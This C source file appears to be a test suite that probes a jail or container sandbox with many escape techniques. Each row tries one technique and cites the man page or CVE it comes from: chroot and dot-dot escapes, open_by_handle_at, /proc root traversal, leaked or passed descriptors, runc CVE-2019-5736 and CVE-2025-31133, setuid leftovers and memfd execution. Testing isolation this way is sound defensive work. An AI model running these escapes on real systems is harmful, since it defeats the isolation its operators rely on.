/* Ways to files of the host. */
#include "row.h"
#include <dirent.h>
#include <sys/fanotify.h>
#include <sys/file.h>
#include <sys/inotify.h>

/* A path of the jail as it is called without a jail, where it is on one mount with the host's. */
static const char *of_jail(const char *path) {
  static char there[200];
  snprintf(there, sizeof there, "/srv/escape/jail%s", path);
  return access(there, F_OK) == 0 ? there : path;
}

ROW("absolute-path", "reads a file of the host by its path", "path_resolution(7)") { read_secret(AT_FDCWD, HOST "/secret"); }

ROW("dot-dot", "climbs out of / by `..`", "chroot(2)") {
  need("chdir", chdir("/"));
  for (int i = 0; i < 64; i++) need("chdir", chdir(".."));
  read_secret(AT_FDCWD, "srv/escape/host/secret");
}

ROW("link-out", "follows a link in the jail to a file of the host", "symlink(7)") { read_secret(AT_FDCWD, "/link"); }

ROW("working-directory", "reads a file in the directory from which it was started", "CVE-2024-21626") {
  read_secret(AT_FDCWD, "secret");
}

ROW("second-chroot", "leaves by a second root directory below its working directory", "chroot(2)") {
  need("chdir", chdir("/"));
  need("chroot", chroot("/home"));
  for (int i = 0; i < 64; i++) need("chdir", chdir(".."));
  read_secret(AT_FDCWD, "srv/escape/host/secret");
}

ROW("second-chroot-descriptor", "leaves by a second root directory and an open directory", "chroot(2), fchdir(2)") {
  int root = (int)need("open", open("/", O_RDONLY));
  need("chroot", chroot("/home"));
  need("fchdir", fchdir(root));
  for (int i = 0; i < 64; i++) need("chdir", chdir(".."));
  read_secret(AT_FDCWD, "srv/escape/host/secret");
}

ROW("file-handle", "opens a file of the host by its handle", "open_by_handle_at(2); the exploit \"shocker\", 2014") {
  struct {
    struct file_handle head;
    unsigned char bytes[128];
  } handle = {.head = {.handle_bytes = 0}};
  const char *text = word("handle");
  handle.head.handle_type = atoi(text);
  text = strchr(text, '.') + 1;
  for (unsigned byte; sscanf(text, "%2x", &byte) == 1; text += 2) handle.head.f_handle[handle.head.handle_bytes++] = (unsigned char)byte;
  int mount = (int)need("open", open(access(HOST, F_OK) == 0 ? HOST : "/", O_RDONLY));
  read_descriptor((int)need("open_by_handle_at", open_by_handle_at(mount, &handle.head, O_RDONLY)));
}

ROW("inherited-directory", "opens files through a directory that the caller left open", "CVE-2024-21626, close_range(2)") {
  for (int fd = 3; fd < 256; fd++)
    if (faccessat(fd, "secret", F_OK, 0) == 0) read_secret(fd, "secret");
  held("no directory of the host is open");
}

ROW("inherited-file", "reads a file that the caller left open", "close_range(2)") {
  char bytes[64];
  for (int fd = 3; fd < 256; fd++) {
    long size = pread(fd, bytes, sizeof bytes, 0);
    if (size > 0 && memmem(bytes, (size_t)size, "SECRET", 6)) got(bytes, size);
  }
  held("no file of the host is open");
}

ROW("inherited-file-above-limit", "reads a file that was left open above the limit of descriptors", "getrlimit(2); loops to RLIMIT_NOFILE") {
  char bytes[64];
  got(bytes, need("pread of 300", pread(300, bytes, sizeof bytes, 0)));
}

ROW("root-of-process", "reads the host's files through the root directory of a process", "proc_pid_root(5)") {
  read_secret(AT_FDCWD, of_victim("root/srv/escape/host/secret"));
}

ROW("directory-of-process", "reads files through the working directory of a process", "proc_pid_cwd(5)") {
  read_secret(AT_FDCWD, of_victim("cwd/secret"));
}

ROW("descriptor-of-process", "reopens a file that a process has open", "proc_pid_fd(5)") {
  read_secret(AT_FDCWD, of_victim("fd/20"));
}

ROW("root-of-first-process", "reads the host's files through the root directory of process 1", "proc_pid_root(5)") {
  read_secret(AT_FDCWD, "/proc/1/root/srv/escape/host/secret");
}

ROW("passed-directory", "reads files through a directory that a process of the same user passes in", "unix(7), SCM_RIGHTS") {
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "\0escape-helper-0"};
  need("connect", connect(fd, (void *)&name, (socklen_t)(2 + 16)));
  char control[CMSG_SPACE(sizeof(int))] = "", byte;
  struct iovec one = {&byte, 1};
  struct msghdr message = {.msg_iov = &one, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  need("recvmsg", recvmsg(fd, &message, 0));
  struct cmsghdr *head = CMSG_FIRSTHDR(&message);
  if (!head) held("the descriptor was taken away on its way");
  int directory;
  memcpy(&directory, CMSG_DATA(head), sizeof directory);
  read_secret(directory, "secret");
}

ROW("moved-directory", "is in a directory that somebody moves out of the jail", "path_resolution(7), rename(2)") {
  need("mkdir", mkdir("/tmp/moved", 0755));
  need("chdir", chdir(of_jail("/tmp/moved")));
  ask("move");
  read_secret(AT_FDCWD, "../../secret");
}

ROW("watch-file-system", "has the kernel open what anybody reads in its file system", "fanotify_mark(2), FAN_MARK_FILESYSTEM") {
  int fd = (int)need("fanotify_init", fanotify_init(FAN_CLASS_NOTIF | FAN_NONBLOCK, O_RDONLY));
  need("fanotify_mark", fanotify_mark(fd, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_ACCESS | FAN_OPEN, AT_FDCWD,
                                      access(HOST, F_OK) == 0 ? HOST : "/"));
  ask("touch");
  char bytes[4096];
  long size = need("read", read(fd, bytes, sizeof bytes));
  struct fanotify_event_metadata *event = (void *)bytes;
  for (; FAN_EVENT_OK(event, size); event = FAN_EVENT_NEXT(event, size)) {
    char text[64] = "";
    if (event->fd >= 0 && pread(event->fd, text, sizeof text, 0) > 0 && memmem(text, sizeof text, "SECRET", 6)) got(text, sizeof text);
  }
  held("no event of a file of the host");
}

ROW("program-of-launcher", "opens the launcher's program for writing", "CVE-2019-5736, proc_pid_exe(5)") {
  struct stat own, other;
  need("stat", stat("/proc/self/exe", &own));
  for (int pid = 1; pid < 100; pid++) {
    char path[40];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (stat(path, &other) != 0 || (own.st_ino == other.st_ino && own.st_dev == other.st_dev)) continue;
    int fd = open(path, O_WRONLY);
    /* ETXTBSY comes after the check of permission: it can be opened when the program has ended */
    if (fd >= 0 || errno == ETXTBSY) broke("%s can be opened for writing", path);
    failed("open");
  }
  held("no process with another program is visible");
}

ROW("owned-file", "writes a file of its user outside of the jail", "path_resolution(7)") {
  int fd = (int)need("open", open(HOST "/of-user", O_WRONLY));
  need("write", write(fd, "CHANGED", 7));
  did("it was written");
}

ROW("new-file", "makes a file in a directory of the host that everybody can write", "path_resolution(7)") {
  need("open", open(HOST "/left/new", O_CREAT | O_WRONLY, 0644));
  did("it was made");
}

ROW("move-out", "links a file of the jail into a directory of the host", "linkat(2)") {
  need("link", link(of_jail("/home/own"), HOST "/left/link"));
  did("it was linked");
}

ROW("remains", "leaves a file for the next program in the jail", "--ephemeral; sharing of a writable root directory") {
  need("open", open("/tmp/remains", O_CREAT | O_WRONLY, 0644));
  did("it was made");
}

ROW("remains-set-user-id", "leaves a set-user-ID file for other users of the host", "chmod(2); CVE-2019-3843") {
  need("open", open("/tmp/set-user-id", O_CREAT | O_WRONLY, 0755));
  need("chmod", chmod("/tmp/set-user-id", 04755));
  did("its mode was changed");
}

ROW("programs-of-jail", "changes a program of the jail, which the next launch starts", "the administrator of a jail as its user") {
  need("chmod", chmod("/filecap", 0700));
  did("its mode was changed");
}

ROW("null-mode", "changes the mode of the null device for all of the host", "chmod(2); runc CVE-2025-31133") {
  int fd = (int)need("open", open("/dev/null", O_RDWR));
  need("fchmod", fchmod(fd, 0600));
  did("its mode was changed");
}

ROW("null-lock", "locks the null device for all of the host", "flock(2)") {
  int fd = (int)need("open", open("/dev/null", O_RDWR));
  need("flock", flock(fd, LOCK_EX | LOCK_NB));
  ask("look");
  did("it was locked");
}

/* The program of the rows, written to another file. */
static void copy_to(int to) {
  static char bytes[1 << 16];
  int from = (int)need("open", open("/escape", O_RDONLY));
  for (long size; (size = read(from, bytes, sizeof bytes)) > 0;) need("write", write(to, bytes, (size_t)size));
}

ROW("watch-shared-file", "notices when the host opens a file that both have", "inotify(7)") {
  int fd = (int)need("inotify_init1", inotify_init1(IN_NONBLOCK));
  need("inotify_add_watch", inotify_add_watch(fd, "/dev/null", IN_OPEN));
  ask("open");
  char bytes[4096];
  need("read", read(fd, bytes, sizeof bytes));
  broke("the host has opened /dev/null");
}

ROW("map-written", "maps a file that it has written as code", "mmap(2); mount(8), noexec") {
  int fd = (int)need("open", open("/tmp", O_TMPFILE | O_RDWR, 0755));
  copy_to(fd);
  if (mmap(0, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED) failed("mmap");
  broke("it is mapped");
}

ROW("execute-memory", "executes a file in memory", "memfd_create(2), vm.memfd_noexec") {
  int fd = (int)need("memfd_create", memfd_create("x", MFD_CLOEXEC));
  copy_to(fd);
  run_descriptor(fd);
}
